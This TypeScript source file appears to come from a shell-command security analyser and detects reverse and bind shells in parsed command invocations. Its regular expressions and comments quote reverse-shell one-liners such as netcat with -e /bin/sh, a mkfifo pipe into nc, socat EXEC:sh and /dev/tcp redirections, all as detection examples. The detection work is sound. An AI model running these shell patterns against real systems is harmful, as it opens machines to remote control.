/**
 * Remote control: a shell or interpreter whose input and output are a network connection (reverse and bind shells). A
 * script that is fetched over HTTP and run is something else: its text ends, and nobody types into it.
 */
import type { Evaluation, Flow, Invocation } from "../invocation.ts";
import { type Arg, known } from "../invocation.ts";
import { cardOf } from "../programs/cards.ts";
import { hasAny, readOptions } from "../word/options.ts";
import { headOf } from "../word/pieces.ts";
import { sendingsOf } from "./sends.ts";

/** bash opens these itself: bash(1), "Redirection". */
const NETWORK_FILE = /^\/dev\/(?:tcp|udp)\//;

function isNetworkFile(path: Arg): boolean {
  return NETWORK_FILE.test(headOf(path));
}

/** A shell, or the running one where it is told to read its input. */
function isShell({ program, args }: Invocation): boolean {
  const runs = cardOf(program)?.runs;
  return runs === "shell" || (runs === "sourced" && INPUT.test(known(args[0]) ?? ""));
}

const INPUT = /^\/(?:dev\/stdin|dev\/fd\/0|proc\/self\/fd\/0)$/;

/** Has the program options whose command gets the connection, as netcat's do? */
function startsCommands(program: string | undefined): boolean {
  return cardOf(program)?.sends?.some(({ commands }) => commands !== undefined) === true;
}

/** `nc -z` opens a connection and closes it. */
function onlyLooks({ program, args }: Invocation): boolean {
  const card = cardOf(program);
  return card?.dry !== undefined && hasAny(readOptions(args, card.options, card.style), card.dry);
}

/** Does the invocation hold a connection open: nc, telnet, socat, openssl s_client? */
function connects(invocation: Invocation | undefined): boolean {
  if (invocation === undefined || onlyLooks(invocation)) return false;
  return startsCommands(invocation.program) || sendingsOf(invocation).some(({ sink }) => sink === "socket");
}

/** Would somebody at the other end of a connection type into what this starts? */
export function isRemotelyControlled(invocation: Invocation, evaluation: Evaluation): boolean {
  if (startsProgramOnConnection(invocation) || servesShell(invocation) || isReadFromNetwork(invocation))
    return true;
  return (
    isShell(invocation) &&
    (readsNetwork(invocation, evaluation) ||
      talksToNetwork(invocation, evaluation) ||
      answersNetwork(invocation, evaluation))
  );
}

const COMMAND_OPTIONS = /^-[a-zA-Z]*[ec]$|^--(?:sh-exec|exec|lua-exec)(?:=|$)/;

/** A shell or an interpreter, as a word or within one. */
const TYPED_INTO =
  /(?:^|[\s:/'"=])(?:(?:ba|da|z|k|a|c|tc|fi)?sh|cmd|powershell|pwsh|python[\d.]*|perl|ruby|node|php)(?:\.exe)?(?=$|[\s,'"])|^shell:|\$SHELL/i;

const NETWORK_ADDRESS = /^(?:(?:tcp|udp|sctp|ssl|openssl|socks|proxy|vsock|dtls)\w*(?:-\w+)*):/i;

/** `nc -e /bin/sh`, `ncat --sh-exec`, `socat … EXEC:sh`: the client itself ties a program to the connection. */
function startsProgramOnConnection({ program, args }: Invocation): boolean {
  const starter = startsCommands(program);
  if (!starter && program !== "socat") return false;
  const words = args.map((arg) => known(arg) ?? headOf(arg));
  if (starter)
    return words.some((word) => COMMAND_OPTIONS.test(word)) && words.some((word) => TYPED_INTO.test(word));
  const starts = words.some((word) => /^(?:exec|system|shell):/i.test(word) && TYPED_INTO.test(word));
  return starts && words.some((word) => NETWORK_ADDRESS.test(word));
}

/** Words that are a shell or an interpreter, wherever it lies. */
const SHELL_WORD =
  /^(?:\S*\/)?(?:(?:ba|da|z|k|a|c|tc|fi)?sh|cmd|powershell|pwsh|python[\d.]*|perl|ruby|node|php)(?:\.exe)?$/i;

/** Options that say that nobody else reaches it, or nobody without a password. */
const GUARDED =
  /^(?:-c|--credential|-A|--ssl-ca|-i=?lo|--interface=lo|-R|--readonly)(?:$|=)|^(?:(?:-\w|--\w[\w-]*)=?)?(?:localhost|127(?:\.\d{1,3}){3}|\[?::1\]?|lo)(?::\d{1,5})?$/;

/** `tcpsvd 0 4444 sh -i`, `telnetd -l /bin/sh`, `ttyd -W bash`: a server ties each connection to a shell that reads what is typed. */
function servesShell({ program, args }: Invocation): boolean {
  const card = cardOf(program);
  if (card?.serves === undefined) return false;
  if (card.serves !== true && !hasAny(readOptions(args, card.options, card.style), card.serves)) return false;
  const words = args.map((arg) => known(arg) ?? headOf(arg));
  const at = words.findIndex((word) => SHELL_WORD.test(word));
  if (at < 0 || words.slice(0, at).some((word) => GUARDED.test(word))) return false;
  // A script or a line of its own is what it runs; nobody types into that.
  return card.launches === undefined || words.slice(at + 1).every((word) => /^-(?!\w*c$)/.test(word));
}

/** `while read -r line; do $line >&5; done <&5`: what is read is run, and answers to the network. */
function isReadFromNetwork({ name, stdout }: Invocation): boolean {
  const [first] = name;
  if (typeof first !== "object" || first.from !== "read") return false;
  return stdout.some(isNetworkFlow);
}

/** A shell reads its commands from the network: `sh <&5` of a socket, `nc host 1 | sh`. */
function readsNetwork({ stdin, redirections }: Invocation, { invocations }: Evaluation): boolean {
  if (isNetworkFlow(stdin)) return true;
  if (redirections.some(({ target }) => isNetworkFile(target))) return true;
  return stdin.kind === "pipe" && stdin.ids.some((id) => connects(invocations[id]));
}

/** `mkfifo f; cat f | sh -i 2>&1 | nc host 1 > f`: its output goes to a client whose answers come back to it. */
function talksToNetwork(shell: Invocation, { invocations }: Evaluation): boolean {
  if (shell.stdin.kind !== "pipe" && shell.stdin.kind !== "file") return false;
  const clients = shell.stdout
    .flatMap((flow) => (flow.kind === "pipe" ? flow.ids : []))
    .map((id) => invocations[id]);
  const answers = clients.flatMap((client) => (client && connects(client) ? client.stdout : []));
  if (answers.length === 0) return false;
  const files = new Set(answers.flatMap(fileOf));
  if (shell.stdin.kind === "file") return files.has(known(shell.stdin.path) ?? "");
  const feeders = shell.stdin.ids.map((id) => invocations[id]);
  return (
    feeders.some((feeder) => feeder?.args.some((arg) => files.has(known(arg) ?? "")) === true) ||
    isInteractive(shell)
  );
}

/** `cat <&3 | sh >&3`: what is read comes through a pipe, and the output goes back. */
function answersNetwork({ stdin, stdout }: Invocation, { invocations }: Evaluation): boolean {
  if (stdin.kind !== "pipe" || !stdout.some(isNetworkFlow)) return false;
  const feeders = new Set(stdin.ids);
  // A set is gone through in the order in which it grows.
  for (const id of feeders) {
    const flow = invocations[id]?.stdin;
    if (flow === undefined) continue;
    if (isNetworkFlow(flow)) return true;
    if (flow.kind === "pipe") for (const further of flow.ids) feeders.add(further);
  }
  return false;
}

function isNetworkFlow(flow: Flow): boolean {
  return flow.kind === "file" && isNetworkFile(flow.path);
}

function fileOf(flow: Flow): string[] {
  return flow.kind === "file" ? [known(flow.path) ?? ""] : [];
}

function isInteractive({ args }: Invocation): boolean {
  return args.some((arg) => /^-[a-z]*i/.test(known(arg) ?? ""));
}
